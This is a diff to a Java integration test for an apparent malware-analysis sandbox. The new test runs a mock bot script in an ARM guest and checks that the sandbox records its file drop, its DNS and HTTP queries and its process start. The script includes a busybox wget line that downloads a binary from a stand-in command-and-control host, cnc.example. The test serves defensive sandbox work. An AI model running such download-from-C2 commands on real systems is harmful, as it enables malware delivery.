@@ -4,9 +4,16 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.time.Duration;
 import java.util.Map;
+import java.util.Optional;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
+import org.malassay.behavior.Facet;
+import org.malassay.behavior.FacetState;
+import org.malassay.behavior.Origin;
+import org.malassay.behavior.ProgramStarted;
+import org.malassay.behavior.Question;
+import org.malassay.behavior.SystemCall;
 import org.malassay.environment.Ending;
 import org.malassay.environment.Ending.Limit;
 import org.malassay.environment.Environment;
@@ -143,6 +150,35 @@ class ArmKernelGuestIT extends LinuxGuestContract {
                     "wide", "puts(mount(\"none\", \"/mnt\", \"tmpfs\", 0, 0) ? strerror(errno) : \"?\"); return 9;"));
     assertThat(assay.execution().stdout().text()).isEqualTo("Operation not permitted\n");
     assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(9));
+  }
+
+  /** The recorder is the machine's, beside the container; the Internet the machine's own. */
+  @Test
+  void whatASampleDoesAndSaysIsToldOfTheContainer() throws Exception {
+    assertThat(environment().observes())
+        .containsEntry(Facet.CALLS, Origin.GUEST_KERNEL)
+        .containsEntry(Facet.NETWORK, Origin.NETWORK);
+    Assay assay =
+        assay(
+            arm()
+                .text(
+                    "bot",
+                    ArmKernelHarness.script(
+                        """
+                        echo dropped >/tmp/dropped
+                        busybox wget -qO /tmp/next http://cnc.example/bins/next.arm
+                        tail -c +2 /tmp/next | head -c 3
+                        """)));
+    assertThat(assay.execution().stdout().text()).isEqualTo("ELF");
+    assertThat(assay.execution().recording().of(Facet.CALLS)).isEqualTo(FacetState.OBSERVED);
+    assertThat(assay.all(SystemCall.class))
+        .anyMatch(call -> call.path().equals(Optional.of("/tmp/dropped")));
+    assertThat(assay.all(Question.class))
+        .extracting(it -> it.protocol() + " " + it.asked())
+        .contains("dns A cnc.example", "http GET http://cnc.example/bins/next.arm");
+    assertThat(assay.all(ProgramStarted.class))
+        .extracting(ProgramStarted::program)
+        .contains("/usr/bin/busybox");
   }
 
   @Test
